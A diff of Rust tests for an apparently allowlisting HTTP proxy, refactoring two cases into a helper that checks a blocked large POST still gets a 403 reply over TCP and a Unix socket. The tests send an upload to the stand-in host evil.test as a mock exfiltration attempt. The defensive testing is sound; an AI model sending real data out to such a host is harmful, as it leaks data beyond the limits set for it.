@@ -712,6 +712,22 @@ fn decisions_serialize() {
     assert_eq!(json["allowed"], false);
 }
 
+/// Sends a POST with a `len`-byte body to a denied host and insists the 403 arrives whole.
+async fn refused_upload_is_answered<S: AsyncRead + AsyncWrite + Unpin>(mut c: S, len: usize) {
+    let head = format!(
+        "POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\nContent-Length: {len}\r\n\r\n"
+    );
+    c.write_all(head.as_bytes()).await.unwrap();
+    c.write_all(&vec![b'x'; len]).await.unwrap();
+    let mut answer = Vec::new();
+    timeout(WAIT, c.read_to_end(&mut answer))
+        .await
+        .unwrap()
+        .unwrap();
+    let answer = String::from_utf8_lossy(&answer);
+    assert!(answer.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{answer}");
+}
+
 #[tokio::test]
 async fn a_refused_body_over_real_tcp_still_gets_its_answer() {
     // Over TCP an unread body would turn the close into a reset that can eat the 403.
@@ -723,40 +739,13 @@ async fn a_refused_body_over_real_tcp_still_gets_its_answer() {
         let (s, _) = listener.accept().await.unwrap();
         server.serve(s).await;
     });
-    let mut c = TcpStream::connect(addr).await.unwrap();
-    let body = vec![b'x'; 256 * 1024];
-    let head = format!(
-        "POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\nContent-Length: {}\r\n\r\n",
-        body.len()
-    );
-    c.write_all(head.as_bytes()).await.unwrap();
-    c.write_all(&body).await.unwrap();
-    let mut answer = Vec::new();
-    timeout(WAIT, c.read_to_end(&mut answer))
-        .await
-        .unwrap()
-        .unwrap();
-    let answer = String::from_utf8_lossy(&answer);
-    assert!(answer.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{answer}");
+    refused_upload_is_answered(TcpStream::connect(addr).await.unwrap(), 256 * 1024).await;
 }
 
 #[tokio::test]
 async fn a_refused_body_over_a_unix_socket_still_gets_its_answer() {
     let (p, _dir) = proxy(&["pypi.org"], None);
-    let (mut c, theirs) = tokio::net::UnixStream::pair().unwrap();
+    let (c, theirs) = tokio::net::UnixStream::pair().unwrap();
     tokio::spawn(p.clone().serve(theirs));
-    let body = vec![b'x'; 100 * 1024];
-    let head = format!(
-        "POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\nContent-Length: {}\r\n\r\n",
-        body.len()
-    );
-    c.write_all(head.as_bytes()).await.unwrap();
-    c.write_all(&body).await.unwrap();
-    let mut answer = Vec::new();
-    timeout(WAIT, c.read_to_end(&mut answer))
-        .await
-        .unwrap()
-        .unwrap();
-    let answer = String::from_utf8_lossy(&answer);
-    assert!(answer.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{answer}");
+    refused_upload_is_answered(c, 100 * 1024).await;
 }
